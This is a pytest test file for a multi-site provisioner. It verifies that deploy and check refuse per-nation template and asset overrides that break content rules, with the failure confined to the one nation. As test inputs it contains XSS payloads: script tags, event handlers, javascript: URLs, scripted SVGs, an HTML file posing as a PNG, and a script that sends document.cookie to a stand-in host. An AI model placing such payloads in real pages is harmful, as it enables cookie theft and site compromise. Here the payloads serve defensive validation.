"""Candidate rules hold on every path: `check` reports them and `deploy` refuses them.

Each rule is broken in a nation's own folder after a good deploy; the deploy must fail
that nation alone, say where (`file:line`), leave its live release in place, and
publish the others; `check` must report the same place. The last test does it on a
slice of the sample network (`SLICE`: enough nations for forked build workers) through
the real CLI.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import (
    build_file_tree,
    copy_sample_network,
    mini_blueprints,
    nation,
    only_args,
    write_spec,
)

from provisioner.candidates.check import check_nation
from provisioner.candidates.preview import SiteState
from provisioner.run.buildpool import MIN_FOR_PROCESSES
from provisioner.run.deploy import Project, deploy
from provisioner.run.engine import Options

HOME = "nations/liege/overrides/pages/home.html.j2"
ASSETS = "nations/liege/assets"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + b"\0" * 40


def intro(line_2: str) -> dict[str, str | bytes]:
    return {HOME: "{% block intro %}\n" + line_2 + "\n{% endblock %}\n"}


# (id, files written into liege's folder, expected `file:line`, words of the message)
RULES: list[tuple[str, dict[str, str | bytes], str, str]] = [
    (
        "locked-block",
        {HOME: "{% block intro %}x{% endblock %}\n{% block footer %}mine{% endblock %}"},
        f"{HOME}:2",
        "block 'footer' of pages/home.html.j2 holds legal text",
    ),
    (
        "block-wrapping-a-locked-one",
        {
            "nations/liege/overrides/layout.html.j2": "{% block body %}no footer{% endblock %}",
            # the mini layout's `body` holds the locked `footer` block
        },
        "nations/liege/overrides/layout.html.j2:1",
        "block 'body' of layout.html.j2 holds legal text",
    ),
    ("script", intro("<script>alert(1)</script>"), f"{HOME}:2", "<script> is not allowed"),
    ("event-handler", intro('<img src="x.png" alt="" onerror="alert(1)">'), f"{HOME}:2", "onclick"),
    ("javascript-url", intro('<a href="javascript:alert(1)">x</a>'), f"{HOME}:2", "javascript:"),
    ("iframe", intro('<iframe src="https://x.example"></iframe>'), f"{HOME}:2", "<iframe>"),
    ("form", intro('<form action="https://x.example">'), f"{HOME}:2", "forms come from"),
    (
        "unknown-block",
        {HOME: "{% block intor %}typo{% endblock %}"},
        f"{HOME}:1",
        "unknown block 'intor': pages/home.html.j2 has these blocks:",
    ),
    (
        "unknown-template",
        {"nations/liege/overrides/pages/about.html.j2": "{% block intro %}x{% endblock %}"},
        "nations/liege/overrides/pages/about.html.j2:1",
        "the blueprint has no template 'pages/about.html.j2'",
    ),
    (
        "text-outside-blocks",
        {HOME: "<p>lost</p>\n{% block intro %}x{% endblock %}"},
        f"{HOME}:1",
        "text outside {% block %}",
    ),
    (
        "scripted-svg",
        {f"{ASSETS}/logo.svg": SVG + "<script>alert(1)</script>\n</svg>\n"},
        f"{ASSETS}/logo.svg:2",
        "<script> is not allowed in an SVG image",
    ),
    (
        "svg-event-handler",
        {f"{ASSETS}/logo.svg": SVG + '<circle r="4" onload="alert(1)"/>\n</svg>\n'},
        f"{ASSETS}/logo.svg:2",
        "event handler onload= is not allowed",
    ),
    (
        "svg-animated-javascript",
        {
            f"{ASSETS}/logo.svg": SVG + '<a><set attributeName="href" to="javascript:alert(1)"/>'
            "</a>\n</svg>\n"
        },
        f"{ASSETS}/logo.svg:2",
        "javascript: is not allowed in an SVG image",
    ),
    (
        "svg-external-document",
        {f"{ASSETS}/logo.svg": SVG + '<image xlink:href="https://x.example/a.png"/>\n</svg>\n'},
        f"{ASSETS}/logo.svg:2",
        "an SVG may only refer to its own parts",
    ),
    (
        "svg-foreign-object",
        {f"{ASSETS}/logo.svg": SVG + "<foreignObject><p>x</p></foreignObject>\n</svg>\n"},
        f"{ASSETS}/logo.svg:2",
        "<foreignobject> is not allowed",
    ),
    (
        "svg-entities",
        {f"{ASSETS}/logo.svg": '<!DOCTYPE svg [<!ENTITY a "aaaa">]>\n<svg>&a;</svg>\n'},
        f"{ASSETS}/logo.svg:1",
        "remove the <!DOCTYPE>",
    ),
    (
        "html-asset",
        {f"{ASSETS}/page.html": "<script>alert(1)</script>"},
        f"{ASSETS}/page.html",
        ".html is not published; assets may be",
    ),
    (
        "mislabelled-image",
        {f"{ASSETS}/photo.png": b"<html><script>alert(1)</script>"},
        f"{ASSETS}/photo.png",
        "this is not a PNG file",
    ),
]

LAYOUT = (  # the mini layout with a legal footer inside `body`, as in the real base
    '<!doctype html><html lang="{{ lang }}"><title>{% block title %}{{ nation.name }}'
    "{% endblock %}</title>{% block body %}<main>{% block content %}{% endblock %}</main>"
    "{% block footer %}<footer>controller</footer>{% endblock %}{% endblock %}</html>\n"
)


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    """hq, liege and other, deployed once; files are named relative to the project."""
    monkeypatch.chdir(tmp_path)
    mini_blueprints(tmp_path)
    build_file_tree(tmp_path, {"blueprints/_base/templates/layout.html.j2": LAYOUT})
    nations = [nation("hq"), nation("liege", "hq"), nation("other", "hq")]
    project = Project(spec=write_spec(tmp_path, nations), out=tmp_path / "build")
    report = deploy(project, Options(retries=0))
    assert {n["status"] for n in report["nations"]} == {"deployed"}
    return project


def live(project: Project, slug: str) -> tuple[str, bytes]:
    site = project.out / "sites" / slug
    return os.readlink(site), (site / "fr" / "index.html").read_bytes()


@pytest.mark.parametrize(
    ("files", "where", "says"), [r[1:] for r in RULES], ids=[r[0] for r in RULES]
)
def test_a_broken_rule_fails_that_nation_alone_and_keeps_its_live_release(
    project: Project, files: dict[str, str | bytes], where: str, says: str
) -> None:
    before = live(project, "liege")
    build_file_tree(project.root, files)
    other = {"nations/other/overrides/pages/home.html.j2": "{% block intro %}2{% endblock %}"}
    build_file_tree(project.root, other)  # a good edit elsewhere still goes live
    report = deploy(project, Options(retries=0))
    status = {n["slug"]: n["status"] for n in report["nations"]}
    assert status == {"hq": "unchanged", "liege": "failed", "other": "deployed"}
    error = next(n["error"] for n in report["nations"] if n["slug"] == "liege")
    assert error["type"] == "CandidateRuleError"
    assert error["location"] == where and says in error["message"], error
    assert live(project, "liege") == before
    assert [str(p) for p in check_nation(project, "liege") if str(p).startswith(where)], says


@pytest.mark.parametrize(
    ("files", "where", "says"), [r[1:] for r in RULES if r[0] in ("locked-block", "scripted-svg")]
)
def test_preview_shows_the_broken_rule_instead_of_the_page(
    project: Project, files: dict[str, str | bytes], where: str, says: str
) -> None:
    build_file_tree(project.root, files)
    state = SiteState(project, "liege")
    state.rebuild()
    assert state.error is not None and state.error.startswith(f"{where}: ")
    assert says in state.error and state.files == {}


def test_allowed_assets_are_published(project: Project) -> None:
    safe_svg = SVG + '<defs><circle id="c" r="4"/></defs><use xlink:href="#c"/>\n</svg>\n'
    build_file_tree(
        project.root,
        {
            f"{ASSETS}/logo.svg": safe_svg,
            f"{ASSETS}/photo.png": PNG,
            f"{ASSETS}/prog.pdf": b"%PDF-1.7\n",
        },
    )
    report = deploy(project, Options(retries=0))
    assert next(n for n in report["nations"] if n["slug"] == "liege")["status"] == "deployed"
    assets = project.out / "sites" / "liege" / "assets"
    assert (assets / "logo.svg").read_text() == safe_svg
    assert (assets / "photo.png").read_bytes() == PNG and (assets / "prog.pdf").is_file()
    assert check_nation(project, "liege") == []


# -- the sample network, through the CLI -------------------------------------------------

MARIE = "nations/marie-dubois"
SAMPLE_CASES = [
    (  # an error raised in a build worker must reach the parent whole (it is pickled)
        {f"{MARIE}/site.yaml": "slogan: 'Liège'\ncolour: red\n"},
        f"{MARIE}/site.yaml:2",
        "colour: unknown field",
    ),
    (
        {
            f"{MARIE}/overrides/pages/privacy.html.j2": "{% block body %}Nous vendons vos "
            "données.{% endblock %}"
        },
        f"{MARIE}/overrides/pages/privacy.html.j2:1",
        "holds legal text and cannot be overridden",
    ),
    (
        {
            f"{MARIE}/overrides/pages/home.html.j2": "{% block intro %}\n<p>Bonjour</p>\n"
            "<script>fetch('https://x.example/?c=' + document.cookie)</script>\n{% endblock %}"
        },
        f"{MARIE}/overrides/pages/home.html.j2:3",
        "<script> is not allowed",
    ),
    (
        {f"{MARIE}/overrides/pages/home.html.j2": "{% block intor %}Bonjour{% endblock %}"},
        f"{MARIE}/overrides/pages/home.html.j2:1",
        "unknown block 'intor'",
    ),
    (
        {f"{MARIE}/assets/logo.svg": SVG + "<script>alert(document.domain)</script>\n</svg>\n"},
        f"{MARIE}/assets/logo.svg:2",
        "<script> is not allowed in an SVG image",
    ),
]


# HQ, the nations whose slug starts with "a" and marie-dubois: 28 nations, above the 16
# builds that fork build workers (run.buildpool.MIN_FOR_PROCESSES).
SLICE = ["hq", "a*", "marie-dubois"]


def run_deploy(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    only = only_args(SLICE)
    command = [sys.executable, "-m", "provisioner", "deploy", "-q", *only, *args]
    return subprocess.run(command, cwd=root, capture_output=True, text=True, timeout=300)


@pytest.mark.slow
def test_a_slice_of_the_sample_network_refuses_each_broken_rule_alone(tmp_path: Path) -> None:
    copy_sample_network(tmp_path)
    first = run_deploy(tmp_path)
    assert first.returncode == 0, first.stdout + first.stderr
    sliced = json.loads((tmp_path / "build" / "reports" / "latest.json").read_text())
    built = sliced["summary"]["deployed"]
    assert built >= MIN_FOR_PROCESSES and built == len(sliced["nations"])
    site = tmp_path / "build" / "sites" / "marie-dubois"
    privacy = site / "fr" / "vie-privee.html"
    release, notice = os.readlink(site), privacy.read_bytes()
    original = tmp_path / MARIE
    kept = tmp_path / "marie-dubois.orig"
    shutil.copytree(original, kept)
    for number, (files, where, says) in enumerate(SAMPLE_CASES):
        build_file_tree(tmp_path, files)
        # Once with every nation rebuilt, so the failure comes back from a build worker.
        result = run_deploy(tmp_path, *(["--force"] if number == 0 else []))
        assert result.returncode == 1, result.stdout + result.stderr
        report = json.loads((tmp_path / "build" / "reports" / "latest.json").read_text())
        assert report["summary"]["failed"] == 1
        assert report["summary"]["failed"] + report["summary"]["unchanged"] == built
        marie = next(n for n in report["nations"] if n["slug"] == "marie-dubois")
        assert marie["status"] == "failed" and marie["error"]["location"] == where
        assert says in marie["error"]["message"]
        assert where in result.stdout  # the recap names the place too
        assert os.readlink(site) == release and privacy.read_bytes() == notice
        shutil.rmtree(original)
        shutil.copytree(kept, original)
